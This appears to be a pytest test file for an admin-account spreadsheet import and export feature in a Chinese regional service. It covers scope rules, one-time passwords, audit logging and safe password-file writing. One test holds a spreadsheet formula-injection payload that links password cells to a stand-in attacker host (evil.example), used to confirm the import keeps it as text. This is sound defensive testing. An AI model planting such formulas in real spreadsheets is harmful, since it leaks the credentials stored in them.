"""Region administrators import administrator accounts (管理员账号) from a spreadsheet, as a city rolling the
product out to its stations does, rather than creating them one by one; and export them in the same columns.

Each row is checked by the rules of creating or changing one account (POST/PATCH /api/v1/admins); a new
account's initial password is shown once, in the import's answer, and must be changed at first sign-in;
importing the same sheet again changes nothing and shows no password.
"""
import io
import json
import stat

import openpyxl
import pytest
from sqlalchemy import select

from backend.audit.models import AuditEvent
from backend.auth import account_importer
from backend.auth.models import User
from backend.extensions import db

from .parallel import inserted_meanwhile
from .test_import import csv_file, xlsx
from .test_import import upload as deputy_upload

HEADER = ["姓名", "登录名", "角色", "所属联络站", "所属区域", "状态"]
URL = "/api/v1/admins/import"


def upload(client, headers, data, filename="管理员.xlsx"):
    return deputy_upload(client, headers, data, filename, url=URL)


def account(username):
    db.session.expire_all()
    return db.session.scalar(select(User).where(User.username == username))


def login(client, username, password):
    return client.post("/api/v1/auth/login", json={"username": username, "password": password})


@pytest.fixture
def huaihua(factory):
    """怀化市's administrator; 鹤城区 has 城北 and 城南联络站, 长沙市's 岳麓区 has 岳麓联络站 (outside their scope)."""
    tree = factory.tree()
    north = factory.station(tree["hc"], "城北联络站")
    south = factory.station(tree["hc"], "城南联络站")
    yuelu = factory.station(tree["yl"], "岳麓联络站")
    admin = factory.admin("huaihua", region=tree["hh"])
    return {**tree, "north": north, "south": south, "yuelu": yuelu, "admin": admin,
            "headers": factory.headers_for_admin(admin)}


SHEET = [
    ["王芳", "wangfang", "站点管理员", "城北联络站", "", "在用"],
    ["李强", "liqiang", "联络站管理员", "城北联络站、城南联络站", "", ""],
    ["赵敏", "zhaomin", "区域管理员", "", "鹤城区", "在用"],
]


def test_admin_imports_accounts_each_with_a_one_time_password_to_change_at_first_sign_in(client, huaihua):
    response = upload(client, huaihua["headers"], xlsx(SHEET, header=HEADER))
    assert response.status_code == 200, response.json
    body = response.json
    assert (body["created"], body["updated"], body["unchanged"], body["errors"]) == (3, 0, 0, [])
    assert [(p["row"], p["username"], p["display_name"]) for p in body["passwords"]] == [
        (2, "wangfang", "王芳"), (3, "liqiang", "李强"), (4, "zhaomin", "赵敏")]
    passwords = {p["username"]: p["password"] for p in body["passwords"]}
    assert len(set(passwords.values())) == 3 and all(len(p) >= 10 for p in passwords.values())

    wang, li, zhao = account("wangfang"), account("liqiang"), account("zhaomin")
    assert [s.name for s in wang.admin_stations] == ["城北联络站"] and wang.admin_region_id is None
    assert sorted(s.name for s in li.admin_stations) == ["城北联络站", "城南联络站"]
    assert zhao.admin_region.name == "鹤城区" and zhao.admin_stations == []
    assert all(a.must_change_password and a.disabled_dt is None for a in (wang, li, zhao))

    # A generated password is kept under the import's cheap hash (a city imports in seconds), a chosen one not.
    assert wang.password_hash.startswith("pbkdf2:sha256:20000$")

    # The password works, and only to change it first.
    signed_in = login(client, "wangfang", passwords["wangfang"])
    assert signed_in.status_code == 200, signed_in.json
    assert signed_in.json["user"]["must_change_password"] is True
    token = {"Authorization": f"Bearer {signed_in.json['token']}"}
    blocked = client.get("/api/v1/suggestions", headers=token)
    assert blocked.status_code == 403 and blocked.json["error"] == "password_change_required"
    changed = client.post("/api/v1/me/password", headers=token,
                          json={"current_password": passwords["wangfang"], "new_password": "Wang-own-pass-42"})
    assert changed.status_code == 200, changed.json
    assert client.get("/api/v1/suggestions", headers={"Authorization": f"Bearer {changed.json['token']}"}).status_code == 200
    db.session.expire_all()
    assert account("wangfang").password_hash.split("$", 1)[0] == "pbkdf2:sha256:1"  # the tests' PASSWORD_HASH_METHOD

    # Each account is in the 操作日志 as if created by hand, the import once; no password anywhere in it.
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.actor_user_id == huaihua["admin"].id)).all()
    assert [e.action for e in events].count("account_created") == 3
    imported = next(e for e in events if e.action == "admins_imported")
    assert imported.detail == {"file": "管理员.xlsx", "created": 3, "updated": 0, "unchanged": 0, "refused_rows": 0}
    logged = json.dumps([e.detail for e in db.session.scalars(select(AuditEvent))], ensure_ascii=False)
    assert not any(p in logged for p in passwords.values())


def test_reimporting_changes_nothing_and_never_resets_a_password(client, huaihua):
    data = xlsx(SHEET, header=HEADER)
    first = upload(client, huaihua["headers"], data).json
    password = next(p["password"] for p in first["passwords"] if p["username"] == "liqiang")
    hash_before = account("liqiang").password_hash

    again = upload(client, huaihua["headers"], data)
    assert again.json == {"created": 0, "updated": 0, "unchanged": 3, "errors": [], "passwords": []}
    assert upload(client, huaihua["headers"], csv_file(SHEET, header=HEADER), "管理员.csv").json["unchanged"] == 3
    assert account("liqiang").password_hash == hash_before
    assert login(client, "liqiang", password).status_code == 200

    changed = xlsx([
        ["王芳（城北）", "wangfang", "站点管理员", "城北联络站、城南联络站", "", "停用"],  # name, stations, 停用
        ["李强", "liqiang", "联络站管理员", "城南联络站", "", ""],  # one station fewer
        ["赵敏", "zhaomin", "区域管理员", "", "鹤城区", ""],  # blank 状态: as it is
    ], header=HEADER)
    response = upload(client, huaihua["headers"], changed)
    assert response.json == {"created": 0, "updated": 2, "unchanged": 1, "errors": [], "passwords": []}
    wang = account("wangfang")
    assert wang.display_name == "王芳（城北）" and wang.disabled_dt is not None
    assert sorted(s.name for s in wang.admin_stations) == ["城北联络站", "城南联络站"]
    assert [s.name for s in account("liqiang").admin_stations] == ["城南联络站"]
    assert login(client, "wangfang", next(p["password"] for p in first["passwords"] if p["username"] == "wangfang")
                 ).status_code == 403  # 停用
    assert account("liqiang").password_hash == hash_before


def test_refused_rows_are_listed_in_chinese_by_row_and_write_nothing(client, factory, huaihua):
    factory.admin("changsha", region=huaihua["cs"])
    peer = factory.admin("peer", region=huaihua["hh"])  # a peer of the importer's own region: not theirs to change
    data = xlsx([
        ["王芳", "wangfang", "站点管理员", "城北联络站", "", ""],  # 2: good
        ["", "", "站长", "", "", "在岗"],  # 3: no name, no username, unknown role and status
        ["周强", "zhouqiang", "站点管理员", "岳麓联络站", "", ""],  # 4: a station outside the scope
        ["孙丽", "sunli", "区域管理员", "", "长沙市/岳麓区", ""],  # 5: a region outside the scope
        ["钱多", "qianduo", "区域管理员", "", "怀化市", ""],  # 6: the importer's own region
        ["王芳", "wangfang", "站点管理员", "城南联络站", "", ""],  # 7: the same username as row 2
        ["外人", "changsha", "站点管理员", "城北联络站", "", ""],  # 8: another region's account
        ["同级", "peer", "区域管理员", "", "怀化市", "停用"],  # 9: a peer account, not theirs to manage
        ["空格", "has space", "站点管理员", "城北联络站", "", ""],  # 10: a space in the username
        ["两样", "both", "区域管理员", "城北联络站", "鹤城区", ""],  # 11: both kinds
        ["没站", "nostation", "站点管理员", "", "", ""],  # 12: no station
        ["自己", "huaihua", "区域管理员", "", "怀化市", "停用"],  # 13: their own account
    ], header=HEADER)
    response = upload(client, huaihua["headers"], data)
    assert response.status_code == 200, response.json
    assert (response.json["created"], response.json["updated"], response.json["unchanged"]) == (1, 0, 0)
    assert [p["username"] for p in response.json["passwords"]] == ["wangfang"]
    assert response.json["errors"] == [
        {"row": 3, "field": "姓名", "message": "姓名不能为空。"},
        {"row": 3, "field": "登录名", "message": "登录名不能为空。"},
        {"row": 3, "field": "角色", "message": "无法识别的角色“站长”，应为联络站管理员（站点管理员）或区域管理员。"},
        {"row": 3, "field": "状态", "message": "无法识别的状态“在岗”，应为在用或停用。"},
        {"row": 4, "field": "所属联络站", "message": "在您管理的范围内找不到联络站“岳麓联络站”。"},
        {"row": 5, "field": "所属区域", "message": "在您管理的区域中找不到“长沙市/岳麓区”。"},
        {"row": 6, "field": "所属区域",
         "message": "只能为您所管区域的下级区域设置区域管理员；本级区域的管理员须由上级区域的管理员设置。"},
        {"row": 7, "field": "登录名", "message": "登录名与第 2 行重复。"},
        {"row": 8, "field": "登录名", "message": "登录名“changsha”已被其他账号使用，请换一个登录名。"},
        {"row": 9, "field": "登录名", "message": "该账号是您所在区域或上级区域的管理员，须由上级区域的管理员办理。"},
        {"row": 10, "field": "登录名", "message": "用户名不能包含空格。"},
        {"row": 11, "field": "所属区域", "message": "区域管理员和联络站管理员请分别建账号：所管区域和所管联络站只能填写一项。"},
        {"row": 12, "field": "所属联络站", "message": "联络站管理员须填写所属联络站（多个用顿号分隔）。"},
        {"row": 13, "field": "登录名", "message": "不能停用自己的账号，也不能调整自己的管理范围；如需调整，请联系上级区域的管理员。"},
    ]
    assert account("peer").disabled_dt is None and account("huaihua").disabled_dt is None
    assert {u for u in db.session.scalars(select(User.username).where(User.username.is_not(None)))} == {
        "huaihua", "changsha", "peer", "wangfang"}
    imported = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "admins_imported"))
    assert imported.detail["refused_rows"] == 11
    assert peer.id  # untouched above


def test_a_refused_change_keeps_the_rest_of_its_row_unchanged(client, huaihua):
    upload(client, huaihua["headers"], xlsx(SHEET, header=HEADER))
    # A new name with a station outside the scope: neither is saved.
    response = upload(client, huaihua["headers"], xlsx([["李强强", "liqiang", "站点管理员", "城北联络站", "", ""],
                                                         ["赵敏敏", "zhaomin", "站点管理员", "城北联络站", "", ""]],
                                                        header=HEADER))
    assert response.json["errors"] == [
        {"row": 3, "field": "所属联络站", "message": "区域管理员账号不能改为联络站管理员，请另建联络站管理员账号。"}]
    assert response.json["updated"] == 1
    assert account("zhaomin").display_name == "赵敏" and account("zhaomin").admin_region.name == "鹤城区"


def test_station_administrators_and_strangers_may_not_import(client, factory, huaihua):
    data = xlsx(SHEET, header=HEADER)
    keeper = factory.admin("keeper", stations=[huaihua["north"]])
    refused = upload(client, factory.headers_for_admin(keeper), data)
    assert refused.status_code == 403
    assert upload(client, factory.wechat_login("citizen"), data).status_code == 403
    assert upload(client, {}, data).status_code == 401
    assert account("wangfang") is None


def test_a_file_that_is_not_a_sheet_is_refused_in_chinese(client, huaihua):
    response = upload(client, huaihua["headers"], b"%PDF-1.4 ...", "管理员.pdf")
    assert response.status_code == 415
    assert response.json["error"] == "unsupported_media"
    missing = upload(client, huaihua["headers"], xlsx([["王芳", "wangfang"]], header=["姓名", "登录名"]))
    assert missing.status_code == 422
    assert missing.json["message"] == "表头缺少必填列：角色。"


def test_the_export_reads_back_as_no_change_and_holds_no_password(client, factory, huaihua):
    factory.station(huaihua["hc"], "城东联络站")  # a name shared in the scope: written with its region
    factory.station(huaihua["hh"], "城东联络站")
    imported = upload(client, huaihua["headers"], xlsx([
        *SHEET, ["陈静", "chenjing", "站点管理员", "怀化市/城东联络站", "", "停用"]], header=HEADER))
    assert imported.json["created"] == 4, imported.json
    response = client.get("/api/v1/admins/export", headers=huaihua["headers"])
    assert response.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(response.data)).active.values)
    assert rows[0] == tuple(HEADER)
    assert sorted(rows[1:]) == sorted([
        ("王芳", "wangfang", "联络站管理员", "城北联络站", None, "在用"),
        ("李强", "liqiang", "联络站管理员", "城北联络站、城南联络站", None, "在用"),
        ("赵敏", "zhaomin", "区域管理员", None, "鹤城区", "在用"),
        ("陈静", "chenjing", "联络站管理员", "怀化市/城东联络站", None, "停用"),
        ("huaihua", "huaihua", "区域管理员", None, "怀化市", "在用"),
    ])
    again = upload(client, huaihua["headers"], response.data, "管理员名单.xlsx")
    assert again.json == {"created": 0, "updated": 0, "unchanged": 5, "errors": [], "passwords": []}
    exported = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported"))
    assert exported.detail["export"] == "管理员名单"
    keeper = factory.admin("keeper", stations=[huaihua["north"]])
    assert client.get("/api/v1/admins/export", headers=factory.headers_for_admin(keeper)).status_code == 403


def test_the_command_imports_within_its_region_and_prints_each_password_once(app, factory, huaihua, tmp_path):
    path = tmp_path / "管理员.xlsx"
    path.write_bytes(xlsx([*SHEET, ["周强", "zhouqiang", "站点管理员", "岳麓联络站", "", ""]], header=HEADER))
    run = app.test_cli_runner().invoke
    result = run(args=["import-admins", str(path), "--region", str(huaihua["hh"].id)])
    assert result.exit_code == 2, result.output
    assert "新增 3 个，更新 0 个，未变化 0 个，有误 1 行。" in result.output
    assert "第 5 行【所属联络站】在您管理的范围内找不到联络站“岳麓联络站”。" in result.output
    wang = account("wangfang")
    printed = next(line for line in result.output.splitlines() if "登录名 wangfang" in line)
    password = printed.rsplit("初始密码 ", 1)[1].strip()
    assert wang.must_change_password and login(app.test_client(), "wangfang", password).status_code == 200

    again = run(args=["import-admins", str(path), "--region", str(huaihua["hh"].id)])
    assert "新增 0 个，更新 0 个，未变化 3 个，有误 1 行。" in again.output
    assert "初始密码" not in again.output

    saved = tmp_path / "密码.xlsx"
    other = tmp_path / "新.csv"
    other.write_bytes(csv_file([["孙丽", "sunli", "区域管理员", "", "岳麓区", ""]], header=HEADER))
    whole = run(args=["import-admins", str(other), "--passwords", str(saved)])  # the root: the whole province
    assert whole.exit_code == 0, whole.output
    assert account("sunli").admin_region.name == "岳麓区"
    sheet = list(openpyxl.load_workbook(saved).active.values)
    assert sheet[0] == ("行号", "姓名", "登录名", "初始密码") and sheet[1][:3] == (2, "孙丽", "sunli")
    assert login(app.test_client(), "sunli", sheet[1][3]).status_code == 200
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600  # the passwords are the importer's to read, nobody else's


def test_the_command_writes_passwords_only_to_a_new_file_never_through_a_link(app, huaihua, tmp_path):  # noqa: F811
    """An existing file, or a link planted where the file is to be (in /tmp, by another user), is refused before
    anything is imported: exit code 1, said in Chinese, the link's target untouched, no account created."""
    source = tmp_path / "新.csv"
    source.write_bytes(csv_file([["孙丽", "sunli", "区域管理员", "", "岳麓区", ""]], header=HEADER))
    target = tmp_path / "别人的.xlsx"
    target.write_bytes(b"")
    planted = tmp_path / "密码.xlsx"
    planted.symlink_to(target)
    existing = tmp_path / "旧.xlsx"
    existing.write_bytes(b"old")
    for path in (planted, existing):
        result = app.test_cli_runner().invoke(args=["import-admins", str(source), "--passwords", str(path)])
        assert result.exit_code == 1, result.output
        assert f"文件 {path} 已存在：初始密码只写入新文件（不覆盖已有文件，也不经符号链接写到别处），请换一个文件名。什么都没有导入。" \
            in result.output
    assert (target.read_bytes(), existing.read_bytes()) == (b"", b"old")
    assert account("sunli") is None
    path = tmp_path / "新密码.xlsx"
    assert app.test_cli_runner().invoke(args=["import-admins", str(source), "--passwords", str(path)]).exit_code == 0
    assert account("sunli") is not None and stat.S_IMODE(path.stat().st_mode) == 0o600
    # Nothing new to write (the same sheet again): no empty file left behind.
    fresh = tmp_path / "再.xlsx"
    again = app.test_cli_runner().invoke(args=["import-admins", str(source), "--passwords", str(fresh)])
    assert again.exit_code == 0 and "未变化 1 个" in again.output and not fresh.exists()


FORMULA = '=HYPERLINK("http://evil.example/?p="&D2&D3,"查看说明")'


def test_an_imported_name_like_a_formula_stays_text_beside_the_passwords(client, huaihua):  # noqa: F811
    """下载导入结果 holds every new account's password: a 姓名 "=HYPERLINK(…&D2…)" imported into it must stay
    text (as in every export), never a formula that sends the passwords away when the sheet is opened."""
    rows = [[FORMULA, "evil1", "站点管理员", "城北联络站", "", "在用"], ["王芳", "wangfang", "站点管理员", "城北联络站", "", "在用"]]
    response = upload(client, huaihua["headers"], csv_file(rows, header=HEADER), filename="a.csv")
    assert response.status_code == 200, response.json
    book = openpyxl.load_workbook(io.BytesIO(account_importer.result_sheet(response.json)))
    name = book.active["B2"]
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
    assert [c.value for c in book.active[3]] == [3, "王芳", "wangfang", response.json["passwords"][1]["password"]]


def _new_accounts(count, prefix):
    """``count`` new accounts of every kind: station administrators of one station and of stations in two
    regions (the 操作日志 line goes under each), some 停用, region administrators, and a refused row."""
    rows = []
    for i in range(count):
        username = f"{prefix}{i}"
        rows.append([
            ["站长", username, "站点管理员", "城北联络站", "", ""],
            ["两地", username, "站点管理员", "城北联络站、市直联络站", "", ""],
            ["停用", username, "站点管理员", "城南联络站", "", "停用"],
            ["区管", username, "区域管理员", "", "鹤城区", ""],
            ["外人", username, "站点管理员", "岳麓联络站", "", ""],  # refused: outside the scope
        ][i % 5])
    return rows


def test_an_import_sends_as_many_statements_for_fifty_new_accounts_as_for_five(app, client, factory, huaihua):
    """A city's 1,400 accounts in one request: the statements do not grow with the rows (they did: eight for
    each account, past the proxy's 60 s timeout), so the import is a few batched writes, whatever its size."""
    from .factories import sent_statements

    factory.station(huaihua["hh"], "市直联络站")

    def statements(rows):
        with sent_statements(app) as seen:
            response = upload(client, huaihua["headers"], xlsx(rows, header=HEADER))
        assert response.status_code == 200, response.json
        return len(seen), response.json

    few, small = statements(_new_accounts(5, "few"))
    many, large = statements(_new_accounts(50, "many"))
    assert (large["created"], len(large["passwords"]), len(large["errors"])) == (40, 40, 10)
    assert many == few, (few, many)

    stopped, both = account("many2"), account("many1")
    assert stopped.disabled_dt is not None and stopped.must_change_password
    assert sorted(s.name for s in both.admin_stations) == ["城北联络站", "市直联络站"]
    assert login(client, "many3", next(p["password"] for p in large["passwords"] if p["username"] == "many3")
                 ).status_code == 200
    logged = db.session.scalars(select(AuditEvent.action).where(AuditEvent.target_label.in_(["停用"]))).all()
    assert logged.count("account_created") == logged.count("account_disabled") == 10 + 1


def test_a_username_created_meanwhile_makes_the_whole_import_a_conflict_keeping_nothing(client, huaihua):
    """Another administrator creates one of the sheet's usernames after the import looked them up, just
    before it writes its new accounts: the import is refused, and none of its accounts stay."""
    with inserted_meanwhile(db.engine, "users", "INSERT INTO users (username, display_name, token_version, "
                            "must_change_password, created_dt) VALUES ('zhaomin', '同时新建', 0, false, CURRENT_TIMESTAMP)"):
        response = upload(client, huaihua["headers"], xlsx(SHEET, header=HEADER))
    assert response.status_code == 409, response.json
    assert response.json["message"] == "导入期间管理员账号被他人同时新建，本次导入未生效，请重新导入。"
    assert "passwords" not in response.json
    assert account("wangfang") is None and account("zhaomin") is None
